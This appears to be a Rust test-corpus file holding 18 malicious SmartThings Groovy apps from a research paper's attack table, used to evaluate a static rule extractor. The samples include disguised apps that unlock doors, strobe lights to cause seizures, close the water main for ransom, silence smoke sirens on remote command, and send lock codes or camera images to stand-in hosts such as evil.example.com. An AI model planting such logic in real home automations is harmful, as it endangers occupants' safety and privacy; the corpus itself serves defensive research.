@@ -1,0 +1,338 @@
+//! The 18 malicious SmartApps of paper Table III, reproducing each attack
+//! class from the literature ([22], [29], [46], [47] in the paper). The
+//! expected `handled` flag mirrors the table's "Can handle?" column: the
+//! rule extractor obtains precise rules for every class except endpoint
+//! attacks (automation lives outside the app) and app-update attacks
+//! (server-side code swaps are invisible to static analysis).
+
+/// The attack classes of Table III.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub enum AttackClass {
+    /// Embed malicious logic beyond the app description.
+    MaliciousControl,
+    /// Exploit overprivilege to perform attacks.
+    AbusingPermission,
+    /// Embed ads into notification messages.
+    Adware,
+    /// Leak private information via HTTP/side channel.
+    Spyware,
+    /// Refuse to take actions until the user pays.
+    Ransomware,
+    /// Execute dynamic commands according to HTTP responses.
+    RemoteControl,
+    /// Malicious apps exchange information by IPC.
+    Ipc,
+    /// Send sensitive information to an attacker's encrypted URL.
+    ShadowPayload,
+    /// Trigger malicious functions via HTTP requests (web endpoints).
+    EndpointAttack,
+    /// Edit the original code after release.
+    AppUpdate,
+}
+
+impl AttackClass {
+    /// Table III's description.
+    pub fn description(&self) -> &'static str {
+        match self {
+            AttackClass::MaliciousControl => "Embed malicious logics beyond app description",
+            AttackClass::AbusingPermission => "Exploit overprivilege to perform attacks",
+            AttackClass::Adware => "Embed ads into notification messages",
+            AttackClass::Spyware => "Leak private information via HTTP/side channel",
+            AttackClass::Ransomware => "Refuse to take actions until user pay money",
+            AttackClass::RemoteControl => "Execute dynamic commands according to HTTP response",
+            AttackClass::Ipc => "Malicious apps exchange information by IPC",
+            AttackClass::ShadowPayload => "Send sensitive information to attacker's encrypted url",
+            AttackClass::EndpointAttack => "Trigger malicious functions via HTTP requests",
+            AttackClass::AppUpdate => "Edit the original codes after released",
+        }
+    }
+
+    /// Whether static rule extraction can handle this class (Table III's
+    /// "Can handle?" column).
+    pub fn statically_handled(&self) -> bool {
+        !matches!(self, AttackClass::EndpointAttack | AttackClass::AppUpdate)
+    }
+}
+
+/// One malicious corpus entry.
+#[derive(Debug, Clone, Copy)]
+pub struct MaliciousApp {
+    /// App name from Table III.
+    pub name: &'static str,
+    /// Attack class.
+    pub attack: AttackClass,
+    /// Groovy source.
+    pub source: &'static str,
+}
+
+/// The 18 malicious apps.
+pub static MALICIOUS_APPS: &[MaliciousApp] = &[
+    MaliciousApp {
+        name: "CreatingSeizuresUsingStrobedLight",
+        attack: AttackClass::MaliciousControl,
+        source: r#"
+definition(name: "CreatingSeizuresUsingStrobedLight", description: "Mood lighting helper")
+input "lights", "capability.switch", title: "Mood lights", multiple: true
+def installed() { subscribe(location, "mode", modeHandler) }
+def modeHandler(evt) {
+    if (location.mode == "Night") {
+        lights.on()
+        runIn(1, strobeOff)
+    }
+}
+def strobeOff() {
+    lights.off()
+    runIn(1, strobeOn)
+}
+def strobeOn() { lights.on() }
+"#,
+    },
+    MaliciousApp {
+        name: "shiqiBatteryMonitor",
+        attack: AttackClass::AbusingPermission,
+        source: r#"
+definition(name: "shiqiBatteryMonitor", description: "Monitors your lock batteries")
+input "door", "capability.lock", title: "Lock to monitor"
+def installed() { subscribe(door, "lock", batteryCheck) }
+def batteryCheck(evt) {
+    if (door.currentBattery < 101) { door.unlock() }
+}
+"#,
+    },
+    MaliciousApp {
+        name: "HelloHome",
+        attack: AttackClass::Adware,
+        source: r#"
+definition(name: "HelloHome", description: "Greets you when you arrive")
+input "presence1", "capability.presenceSensor", title: "Your phone"
+def installed() { subscribe(presence1, "presence.present", arriveHandler) }
+def arriveHandler(evt) {
+    sendPush("Welcome home! -- Buy SuperWidgets at widgets.example.com --")
+}
+"#,
+    },
+    MaliciousApp {
+        name: "CODetector",
+        attack: AttackClass::Adware,
+        source: r#"
+definition(name: "CODetector", description: "Carbon monoxide alerts")
+input "co1", "capability.carbonMonoxideDetector", title: "CO detector"
+def installed() { subscribe(co1, "carbonMonoxide.detected", coHandler) }
+def coHandler(evt) {
+    sendPush("CO detected! Stay safe with AdGuard insurance: ads.example.com")
+}
+"#,
+    },
+    MaliciousApp {
+        name: "LockManager",
+        attack: AttackClass::Spyware,
+        source: r#"
+definition(name: "LockManager", description: "Manage your lock codes")
+input "door", "capability.lock", title: "The lock"
+input "newCode", "text", title: "New code"
+def installed() { subscribe(door, "lock", lockHandler) }
+def lockHandler(evt) {
+    httpPost([uri: "http://evil.example.com/codes", body: newCode]) { resp -> }
+}
+"#,
+    },
+    MaliciousApp {
+        name: "shiqiLightController",
+        attack: AttackClass::Spyware,
+        source: r#"
+definition(name: "shiqiLightController", description: "Smart light scheduling")
+input "lights", "capability.switch", title: "Lights", multiple: true
+input "presence1", "capability.presenceSensor", title: "Phone"
+def installed() { subscribe(presence1, "presence", spyHandler) }
+def spyHandler(evt) {
+    lights.on()
+    httpGet("http://evil.example.com/track?presence=home") { resp -> }
+}
+"#,
+    },
+    MaliciousApp {
+        name: "DoorLockPinCodeSnooping",
+        attack: AttackClass::Spyware,
+        source: r#"
+definition(name: "DoorLockPinCodeSnooping", description: "Lock usage statistics")
+input "door", "capability.lock", title: "The lock"
+input "phone1", "phone", title: "Statistics number"
+def installed() { subscribe(door, "lock", usageHandler) }
+def usageHandler(evt) {
+    sendSms(phone1, "lock event observed")
+}
+"#,
+    },
+    MaliciousApp {
+        name: "WaterValve",
+        attack: AttackClass::Ransomware,
+        source: r#"
+definition(name: "WaterValve", description: "Protect your home from leaks")
+input "main", "capability.valve", title: "Water main"
+def installed() { runEvery1Hour(extort) }
+def extort() {
+    if (state.paid != "yes") { main.close() }
+}
+"#,
+    },
+    MaliciousApp {
+        name: "SmokeDetector",
+        attack: AttackClass::RemoteControl,
+        source: r#"
+definition(name: "SmokeDetector", description: "Smarter smoke handling")
+input "smoke1", "capability.smokeDetector", title: "Smoke detector"
+input "siren1", "capability.alarm", title: "Siren"
+def installed() { subscribe(smoke1, "smoke", smokeHandler) }
+def smokeHandler(evt) {
+    httpGet("http://evil.example.com/cmd") { resp ->
+        if (resp == "silence") { siren1.off() } else { siren1.both() }
+    }
+}
+"#,
+    },
+    MaliciousApp {
+        name: "FireAlarm",
+        attack: AttackClass::RemoteControl,
+        source: r#"
+definition(name: "FireAlarm", description: "Fire response automation")
+input "smoke1", "capability.smokeDetector", title: "Smoke detector"
+input "exits", "capability.lock", title: "Exit locks", multiple: true
+def installed() { subscribe(smoke1, "smoke.detected", fireHandler) }
+def fireHandler(evt) {
+    httpGet("http://evil.example.com/unlock") { resp ->
+        if (resp == "go") { exits.unlock() }
+    }
+}
+"#,
+    },
+    MaliciousApp {
+        name: "MaliciousCameraIPC",
+        attack: AttackClass::Ipc,
+        source: r#"
+definition(name: "MaliciousCameraIPC", description: "Camera helper")
+input "cam", "capability.switch", title: "Camera outlet"
+def installed() { subscribe(location, "mode", modeWatcher) }
+def modeWatcher(evt) {
+    if (location.mode == "Away") { cam.off() }
+}
+"#,
+    },
+    MaliciousApp {
+        name: "PresenceSensorIPC",
+        attack: AttackClass::Ipc,
+        source: r#"
+definition(name: "PresenceSensorIPC", description: "Presence helper")
+input "presence1", "capability.presenceSensor", title: "Phone"
+def installed() { subscribe(presence1, "presence.not present", leftHandler) }
+def leftHandler(evt) { setLocationMode("Away") }
+"#,
+    },
+    MaliciousApp {
+        name: "AutoCamera2",
+        attack: AttackClass::ShadowPayload,
+        source: r#"
+definition(name: "AutoCamera2", description: "Snapshot on motion")
+input "motion1", "capability.motionSensor", title: "Motion"
+input "cam", "capability.imageCapture", title: "Camera"
+def installed() { subscribe(motion1, "motion.active", snap) }
+def snap(evt) {
+    cam.take()
+    httpPost([uri: "https://attacker.example.com/upload", body: "img"]) { resp -> }
+}
+"#,
+    },
+    MaliciousApp {
+        name: "BackdoorPinCodeInjection",
+        attack: AttackClass::EndpointAttack,
+        source: r#"
+definition(name: "BackdoorPinCodeInjection", description: "Lock code convenience")
+input "door", "capability.lock", title: "The lock"
+mappings {
+    path("/inject") {
+        action: [POST: "injectCode"]
+    }
+}
+def installed() { }
+def injectCode() { door.unlock() }
+"#,
+    },
+    MaliciousApp {
+        name: "DisablingVacationMode",
+        attack: AttackClass::EndpointAttack,
+        source: r#"
+definition(name: "DisablingVacationMode", description: "Mode helper")
+mappings {
+    path("/mode") {
+        action: [POST: "setMode"]
+    }
+}
+def installed() { }
+def setMode() { setLocationMode("Home") }
+"#,
+    },
+    MaliciousApp {
+        name: "BonVoyageRepackaging",
+        attack: AttackClass::AppUpdate,
+        source: r#"
+definition(name: "BonVoyageRepackaging", description: "Away mode when everyone leaves")
+input "presence1", "capability.presenceSensor", title: "Phones"
+def installed() { subscribe(presence1, "presence.not present", leftHandler) }
+def leftHandler(evt) { setLocationMode("Away") }
+"#,
+    },
+    MaliciousApp {
+        name: "PowersOutAlert",
+        attack: AttackClass::AppUpdate,
+        source: r#"
+definition(name: "PowersOutAlert", description: "Alert on power loss")
+input "meter", "capability.powerMeter", title: "Meter"
+input "phone1", "phone", title: "Notify"
+def installed() { subscribe(meter, "power", powerHandler) }
+def powerHandler(evt) {
+    if (evt.value < 1) { sendSms(phone1, "Power out") }
+}
+"#,
+    },
+    MaliciousApp {
+        name: "MidnightUnlocker",
+        attack: AttackClass::MaliciousControl,
+        source: r#"
+definition(name: "MidnightUnlocker", description: "Evening routine helper")
+input "door", "capability.lock", title: "Front door"
+input "lights", "capability.switch", title: "Lights", multiple: true
+def installed() {
+    subscribe(location, "mode", modeHandler)
+}
+def modeHandler(evt) {
+    if (location.mode == "Night") {
+        lights.off()
+        door.unlock()
+    }
+}
+"#,
+    },
+];
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn eighteen_apps_ten_classes() {
+        assert_eq!(MALICIOUS_APPS.len(), 18);
+        let classes: std::collections::BTreeSet<_> =
+            MALICIOUS_APPS.iter().map(|a| a.attack.description()).collect();
+        assert_eq!(classes.len(), 10);
+    }
+
+    #[test]
+    fn handled_column_matches_table_iii() {
+        for app in MALICIOUS_APPS {
+            let expected = !matches!(
+                app.attack,
+                AttackClass::EndpointAttack | AttackClass::AppUpdate
+            );
+            assert_eq!(app.attack.statically_handled(), expected, "{}", app.name);
+        }
+    }
+}
